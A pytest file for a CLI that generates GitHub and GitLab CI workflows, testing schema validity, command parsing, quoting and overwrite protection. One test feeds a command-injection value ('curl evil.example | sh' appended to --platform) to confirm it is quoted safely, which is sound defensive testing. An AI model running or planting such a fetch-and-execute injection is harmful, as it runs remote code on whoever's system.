"""`sysimage-docker ci github|gitlab`: the workflows validate against the GitHub workflow and GitLab CI JSON
schemas (check-jsonschema's vendored copies, offline), and every sysimage-docker command line in them parses with
the tool's own CLI and plans the project, so a renamed flag breaks this test."""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
from pathlib import Path

import click
import pytest
import yaml
from conftest import EXAMPLES

from sysimage_containers.cli import main_group

CHECK = str(Path(sys.executable).parent / "check-jsonschema")
SCHEMAS = {"github": "vendor.github-workflows", "gitlab": "vendor.gitlab-ci"}
FILES = {"github": ".github/workflows/sysimage-docker.yml", "gitlab": ".gitlab-ci.yml"}
# what the CI sets before our command lines run
CI_ENV = {"IMAGE": "ghcr.io/acme/app", "CACHE": "ghcr.io/acme/app-cache", "SHA": "0123456789abcdef"}


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A git repository whose Julia project lives in a subdirectory."""
    root = tmp_path / "repo"
    project = root / "deploy"
    project.parent.mkdir()
    import shutil

    shutil.copytree(EXAMPLES / "http-service", project)
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    return root


def commands(kind: str, text: str) -> list[str]:
    data = yaml.safe_load(text)
    if kind == "github":
        lines = [line for step in data["jobs"]["image"]["steps"] if "run" in step for line in step["run"].splitlines()]
    else:
        job = data["sysimage-docker"]
        lines = [*job["before_script"], *job["script"]]
    return [line for line in lines if line.startswith("sysimage-docker ")]


def parse(line: str) -> list[str]:
    """The words the shell would pass, with the CI's variables set ("$@": the tag and push flags the lines before
    the build collect; test_ci_jobs_engine.py runs them for real)."""
    expanded = line.replace('"$@"', '--tag "$IMAGE:$SHA" --push --cache-repo "$CACHE"')
    for name, value in CI_ENV.items():
        expanded = expanded.replace(f"${name}", value)
    return shlex.split(expanded)[1:]


@pytest.mark.parametrize("kind", ["github", "gitlab"])
@pytest.mark.parametrize("flags", [[], ["--image", "registry.example.com:5000/team/app", "--cache-repo",
                                        "registry.example.com:5000/team/cache", "--platform", "linux/arm64"]])
def test_workflow_validates_and_its_commands_parse(cli, repo: Path, kind: str, flags: list[str]) -> None:
    result = cli("ci", kind, repo / "deploy", *flags)
    assert result.code == 0, result.err
    written = repo / FILES[kind]
    assert result.err == f"wrote {written}\n"
    check = subprocess.run([CHECK, "--builtin-schema", SCHEMAS[kind], str(written)], capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    lines = commands(kind, written.read_text())
    assert [parse(line)[0] for line in lines] == ["build", "verify"]
    for line in lines:
        words = parse(line)
        command = main_group.get_command(click.Context(main_group), words[0])
        assert command is not None
        command.make_context(words[0], words[1:])  # raises on an unknown flag or a bad value
    build = parse(lines[0])
    assert build[1] == "deploy"  # the project, relative to the repository root where the CI checks out
    assert {"--push", "--cache-repo", "--metadata-file", "--sbom-file"} <= set(build)
    # the metadata and the SBOM go to the files the job keeps as artifacts, each to its own
    assert (build[build.index("--metadata-file") + 1], build[build.index("--sbom-file") + 1]) == (
        "build.json", "sbom.cdx.json")
    data = yaml.safe_load(written.read_text())
    kept = (next(s["with"]["path"] for s in data["jobs"]["image"]["steps"] if "upload-artifact" in s.get("uses", ""))
            .split() if kind == "github" else data["sysimage-docker"]["artifacts"]["paths"])
    assert sorted(kept) == ["build.json", "sbom.cdx.json"]
    # the build line plans the project as written (run from the repository root, as the CI would)
    dry = subprocess.run([sys.executable, "-m", "sysimage_containers", *build, "--dry-run"], cwd=repo,
                         capture_output=True, text=True, env={**os.environ, **CI_ENV})
    assert dry.returncode == 0, dry.stderr
    text = written.read_text()
    if flags:
        assert "registry.example.com:5000" in text and ("REGISTRY_PASSWORD" in text)
    elif kind == "gitlab":  # under the project's registry path, where the job token may push
        assert 'export CACHE="$IMAGE/cache"' in text and 'export IMAGE="$CI_REGISTRY_IMAGE"' in text


def test_values_are_quoted_and_checked(cli, repo: Path) -> None:
    hostile = cli("ci", "github", repo / "deploy", "--platform", "linux/amd64; curl evil.example | sh")
    assert hostile.code == 0, hostile.err
    text = (repo / FILES["github"]).read_text()
    assert "--platform 'linux/amd64; curl evil.example | sh'" in text
    bad = cli("ci", "gitlab", repo / "deploy", "--image", "Team/App")
    assert bad.code == 2 and bad.err.startswith("sysimage-docker: error: --image: 'Team/App' is not a valid image")
    tagged = cli("ci", "gitlab", repo / "deploy", "--image", "reg.example.com/app:1")
    assert (tagged.code, tagged.err) == (2, "sysimage-docker: error: --image: 'reg.example.com/app:1' names a tag; "
                                            "give the repository (the commit becomes the tag)\n")
    assert not (repo / FILES["gitlab"]).exists()


def test_an_existing_workflow_is_kept_unless_forced(cli, repo: Path) -> None:
    assert cli("ci", "github", repo / "deploy").code == 0
    again = cli("ci", "github", repo / "deploy")
    assert (again.code, again.err) == (2, f"sysimage-docker: error: {repo / FILES['github']}: exists; pass --force "
                                          "to replace it\n")
    assert cli("ci", "github", repo / "deploy", "--force").code == 0
